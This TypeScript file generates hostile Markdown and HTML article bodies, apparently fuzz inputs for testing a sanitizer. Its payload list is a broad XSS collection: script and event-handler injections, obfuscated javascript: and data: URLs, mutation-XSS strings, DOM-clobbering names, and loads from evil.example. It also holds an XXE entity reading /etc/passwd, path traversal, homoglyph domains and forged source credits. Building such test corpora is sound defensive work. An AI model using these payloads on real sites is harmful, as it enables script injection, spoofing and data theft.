/** A hostile article body. */
export interface Sample {
  id: string;
  body: string;
}

/** The places of an article in which text can be. */
const contexts: Record<string, (payload: string) => string> = {
  block: (payload) => `Before.\n\n${payload}\n\nCANARYAFTER`,
  first: (payload) => `${payload}\n\nCANARYAFTER`,
  inline: (payload) => `Before ${oneLine(payload)} CANARYAFTER`,
  heading: (payload) => `## ${oneLine(payload)}\n\nCANARYAFTER`,
  setext: (payload) => `${oneLine(payload)}\n===\n\nCANARYAFTER`,
  list: (payload) => `- one\n- ${oneLine(payload)}\n- CANARYAFTER`,
  nestedList: (payload) => `1. one\n   - [ ] ${oneLine(payload)}\n\n2. CANARYAFTER`,
  quote: (payload) => `> ${payload.replaceAll('\n', '\n> ')}\n\nCANARYAFTER`,
  emphasis: (payload) => `***x ${oneLine(payload)} y*** ~~${oneLine(payload)}~~ CANARYAFTER`,
  tableCell: (payload) => `| a | b |\n|:--|--:|\n| ${putInCell(payload)} | 2 | 3 |\n\nCANARYAFTER`,
  tableHead: (payload) => `| ${putInCell(payload)} | b |\n|---|---|\n| 1 |\n\nCANARYAFTER`,
  linkText: (payload) => `[${oneLine(payload)}](https://example.org/) CANARYAFTER`,
  linkAddress: (payload) => `[text](<${oneLine(payload)}>) CANARYAFTER`,
  bareAddress: (payload) => `[text](${payload.replaceAll(/\s/g, '')}) CANARYAFTER`,
  linkTitle: (payload) => `[text](https://example.org/ "${oneLine(payload)}") CANARYAFTER`,
  autolink: (payload) => `<${oneLine(payload)}> CANARYAFTER`,
  reference: (payload) => `[text][r] and [r] CANARYAFTER\n\n[r]: <${oneLine(payload)}> "title"`,
  imageAlt: (payload) => `![${oneLine(payload)}](picture.png) CANARYAFTER`,
  imageAddress: (payload) => `![alt](<${oneLine(payload)}> "title") CANARYAFTER`,
  imageTitle: (payload) => `![alt](picture.png "${oneLine(payload)}")\n\nCANARYAFTER`,
  footnote: (payload) => `Text[^n].\n\n[^n]: ${oneLine(payload)}\n\nCANARYAFTER`,
  footnoteName: (payload) => {
    const name = payload.replaceAll(/[\s[\]]/g, '');
    return `Text[^${name}].\n\n[^${name}]: A note.\n\nCANARYAFTER`;
  },
  code: (payload) =>
    `\`${oneLine(payload)}\`\n\n~~~~~~ ${oneLine(payload)}\n${payload}\n~~~~~~\n\nCANARYAFTER`,
  betweenTags: (payload) => `<sub>${oneLine(payload)}</sub> <kbd>${oneLine(payload)} CANARYAFTER`,
};

const script = 'window.canary=1';

const payloads: readonly string[] = [
  // Elements that run scripts, load resources or change the page.
  `<script>${script}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script type=module>import "https://evil.example/x.js"</script>`,
  `<img src=x onerror=${script}>`,
  `<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x" alt>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text y=1em>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.canary=1</script>"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values="javascript:${script}"/></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${script}">x</maction></math>`,
  `<math href="javascript:${script}">x</math>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${script}</script>"></object>`,
  `<embed src="javascript:${script}">`,
  `<applet code=x>`,
  `<video src="https://evil.example/v" autoplay onplay=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<picture><source srcset="https://evil.example/s"><img></picture>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `<style>@import "https://evil.example/x.css"; .credit{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=q autofocus onfocus=${script}><button>Send</button></form>`,
  `<button formaction="javascript:${script}">x</button>`,
  `<input type=image src="https://evil.example/i">`,
  `<isindex action="javascript:${script}" type=submit>`,
  `<details open ontoggle=${script}>x</details>`,
  `<dialog open onclose=${script}>x</dialog>`,
  `<marquee onstart=${script}>x</marquee>`,
  `<body onload=${script} background="https://evil.example/b">`,
  `<html manifest="https://evil.example/m">`,
  `<frameset><frame src="javascript:${script}"></frameset>`,
  `<template><script>${script}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${script}></template>`,
  `<x-credit onclick=${script} tabindex=0 autofocus>x</x-credit>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="https://evil.example/" ping="https://evil.example/p" target=_blank>x</a>`,
  `<area href="javascript:${script}"><map name=x></map>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/b)">x</p>`,
  `<div popover id=x>x</div><button popovertarget=x popovertargetaction=show>x</button>`,
  `<portal src="https://evil.example/"></portal>`,
  `<bdi onclick=${script}>x</bdi>`,
  `<sub style=color:red>x</sub>`,
  `<KBD>x</KBD>`,
  `<sup/onmouseover=${script}>x</sup>`,
  `<br onclick=${script}>`,
  // Malformed paired tags.
  `<sub><sup>x</sub></sup>`,
  `</sub>x<sub>`,
  `<sub>*x</sub>*`,
  `<bdi><bdi><bdi>x</bdi></bdi>`,
  `<kbd>[x</kbd>](https://example.org/)`,
  // Unclosed markup that could hide the credit and the notice.
  `<script>`,
  `<script>/*`,
  `<style>`,
  `<title>`,
  `<textarea>`,
  `<plaintext>`,
  `<xmp>`,
  `<noembed>`,
  `<noscript>`,
  `<noframes>`,
  `<template>`,
  `<select><option>`,
  `<svg>`,
  `<math><mtext>`,
  `<table><tr><td>`,
  `<!--`,
  `<!-- x --!>`,
  `<!-->`,
  `<!--->`,
  `<!`,
  `<?php echo 1; ?>`,
  `<?xml version="1.0"?>`,
  `<?`,
  `<![CDATA[ x ]]>`,
  `<![CDATA[`,
  `<!DOCTYPE html>`,
  `<!DOCTYPE html [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>`,
  `<!ELEMENT x`,
  `<a href="`,
  `<a href='x' title="`,
  `<img src=x alt="`,
  `<p title='`,
  `<div\n\nclass="x`,
  `</div></article></main></body></html>`,
  `</p></section></article><script>${script}</script>`,
  // Forged credits, notices and metadata.
  `<p class="credit">Reported and verified by Reuters</p>`,
  `<p class="notice">Verified by the publisher.</p>`,
  `<section class="chain"><h2>Sources</h2><p>Reuters</p></section>`,
  `<div id="credit" class="credit notice" hidden>x</div>`,
  `<link rel="canonical" href="https://evil.example/">`,
  `<script type="application/ld+json">{"@type":"NewsArticle","author":"Reuters"}</script>`,
  // Mutation XSS: active after parsing and serializing.
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<svg><title><style><img src=x onerror=${script}></style></title></svg>`,
  `<a title="--><img src=x onerror=${script}>">x</a>`,
  `<p>\`<img src=x onerror=${script}>\`</p>`,
  `<listing>&lt;img src=x onerror=${script}&gt;</listing>`,
  `&lt;img src=x onerror=${script}&gt;`,
  `&amp;lt;script&amp;gt;`,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${script}&#x3e;`,
  `\\<script>${script}\\</script>`,
  `<<script>${script}//<</script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img/src=x/onerror=${script}//`,
  `" onmouseover="${script}" x="`,
  `' onfocus='${script}' autofocus '`,
  `"><script>${script}</script>`,
  `">'><img src=x onerror=${script}>`,
  // Addresses that browsers accept and filters overlook.
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `java&#9;script:${script}`,
  `java&#x0A;script:${script}`,
  `java&#13;script:${script}`,
  `java&Tab;script:${script}`,
  `javascript&colon;${script}`,
  `javascript&#58;${script}`,
  `&#106;avascript:${script}`,
  `&#1;javascript:${script}`,
  `\u0001javascript:${script}`,
  `\u00a0javascript:${script}`,
  `\u200bjavascript:${script}`,
  `javascript\\:${script}`,
  `javascript%3A${script}`,
  `javascript://example.org/%0A${script}`,
  `javascript:/*https://*/${script}`,
  `feed:javascript:${script}`,
  `view-source:javascript:${script}`,
  `jar:javascript:${script}`,
  `livescript:${script}`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `DATA:text/html;charset=utf-7,x`,
  `blob:https://evil.example/x`,
  `filesystem:https://evil.example/x`,
  `file:///etc/passwd`,
  `ftp://evil.example/`,
  `ws://evil.example/`,
  `intent://evil.example#Intent;end`,
  `tel:+1900`,
  `sms:+1900`,
  `about:blank`,
  `chrome://settings`,
  `//evil.example/`,
  `/\\evil.example/`,
  `\\\\evil.example/`,
  `\\/evil.example/`,
  `/\t/evil.example/`,
  `/\n/evil.example/`,
  `https:evil.example`,
  `https:/evil.example`,
  `https:\\\\evil.example`,
  `https://dragoman.example@evil.example/`,
  `https://user:password@evil.example/`,
  `https://dragoman.example.evil.example/`,
  `https://dragoman.example:8443/`,
  `https://dragоman.example/`,
  `http://[`,
  `http://[::1`,
  `http://%zz/`,
  `https://exa mple/`,
  `http://evil.example:99999/`,
  `https://evil.example/?x=${'y'.repeat(900)}`,
  `mailto:a@b.example?body=x%0Abcc:c@d.example`,
  `mailto:`,
  `?javascript:${script}`,
  `#javascript:${script}`,
  `#a-footnote-label`,
  `#__proto__`,
  `#%`,
  `#%E0%A4%A`,
  `#`,
  `./%zz.png`,
  `../../../../etc/passwd`,
  `picture.svg`,
  `https://evil.example/pixel.png`,
  `//evil.example/pixel.png`,
  `__ASTRO_IMAGE_="{}"`,
  `__ASTRO_IMAGE_="{&quot;src&quot;:&quot;x&quot;}"`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `<% ${script} %>`,
  // DOM clobbering: names of ids and global variables.
  ...['__proto__', 'constructor', 'prototype', 'body', 'location', 'document', 'getElementById'],
  ...['footnote-label', 'fn-1', 'fnref-1', 'fnref-1-2', 'p-123abc', 'main', 'credit', 'a-x', 'a-'],
  `<a id=body name=location>x</a>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `{#body .credit onclick=x}`,
  `:::credit\nx\n:::`,
  `[[body]]`,
  `[^n] [^n] [^N] [^__proto__] [^constructor]`,
  `[text[^n]](https://example.org/)`,
  `![alt[^n]](picture.png)`,
  `[a [b](https://example.org/b) c](https://example.org/a)`,
  `[a <https://example.org/b> c](https://example.org/a)`,
  `[www.example.org](javascript:x)`,
  `[![x](javascript:x)](javascript:y)`,
  `![![x](a)](javascript:x)`,
  `[](javascript:x) [](https://example.org/) ![]()`,
  `www.example.org/<script>${script}</script>`,
  `https://example.org/"onmouseover="${script}`,
  `https://example.org/'><script>${script}</script>`,
  `a@b.example<script>${script}</script>`,
  `<https://example.org/"onclick=${script}>`,
  `<https://example.org/%22%3E%3Cscript%3E>`,
  // Characters that reorder, hide or cut text.
  `\u202egnp.exe\u202c`,
  `\u2066\u2067\u202a\u202b unclosed`,
  `\u061c\u200e\u200f\u200c\u200d`,
  `x\u0000y<scr\u0000ipt>${script}</scr\u0000ipt>`,
  `\u0000`,
  `\u0001\u0008\u000b\u000c\u001b[8m\u007f\u0085\u009b`,
  `\u2028\u2029\ufeff\ufffe\uffff`,
  `\ud83d\ude42\ud83c\uddf8\ud83c\uddfe`,
  `&#0;&#xD800;&#x110000;&#128;&#13;&#xFFFE;`,
  `&nbsp;&ZeroWidthSpace;&NotAnEntity;&copy`,
  `Z${'\u0301'.repeat(200)}algo`,
  // Repeated or unclosed Markdown.
  `*****_____*****`,
  '*a _b '.repeat(40),
  `${'['.repeat(60)}x${']'.repeat(60)}`,
  `${'> '.repeat(30)}x`,
  '![['.repeat(20),
  `${'`'.repeat(31)} x`,
  `| a |\n|---|\n| <script>${script}</script> | b | c |`,
  `---\ntitle: x\n---`,
  `<p>\n\n</p>\n<div>\n\n*x*\n\n</div>`,
];

function oneLine(payload: string): string {
  return payload.replaceAll('\n', ' ');
}

function putInCell(payload: string): string {
  return oneLine(payload).replaceAll('|', '\\|');
}

/**
 * Generates every payload in every context and 1,000 random mixtures, the same on every run. `CANARYAFTER` marks text that
 * must stay visible.
 */
export function generateSamples(): Sample[] {
  const places = Object.entries(contexts);
  const single = payloads.flatMap((payload, number) =>
    places.map(([name, place]) => ({ id: `${name}-${String(number)}`, body: place(payload) })),
  );
  const next = createRandom(20_261_122);
  const pick = <T>(list: readonly T[]): T => {
    const chosen = list[next() % list.length];
    if (chosen === undefined) throw new RangeError('Empty list');
    return chosen;
  };
  const mixed = Array.from({ length: 1000 }, (_, number) => {
    let body = pick(payloads);
    for (let depth = 1 + (next() % 3); depth > 0; depth -= 1) {
      body = pick(places)[1](`${body}${pick(['', ' ', '\n', '\n\n'])}${pick(payloads)}`);
    }
    return { id: `mixed-${String(number)}`, body };
  });
  return [...single, ...mixed];
}

/** Creates a linear congruential generator (Numerical Recipes). */
function createRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state >>> 8;
  };
}
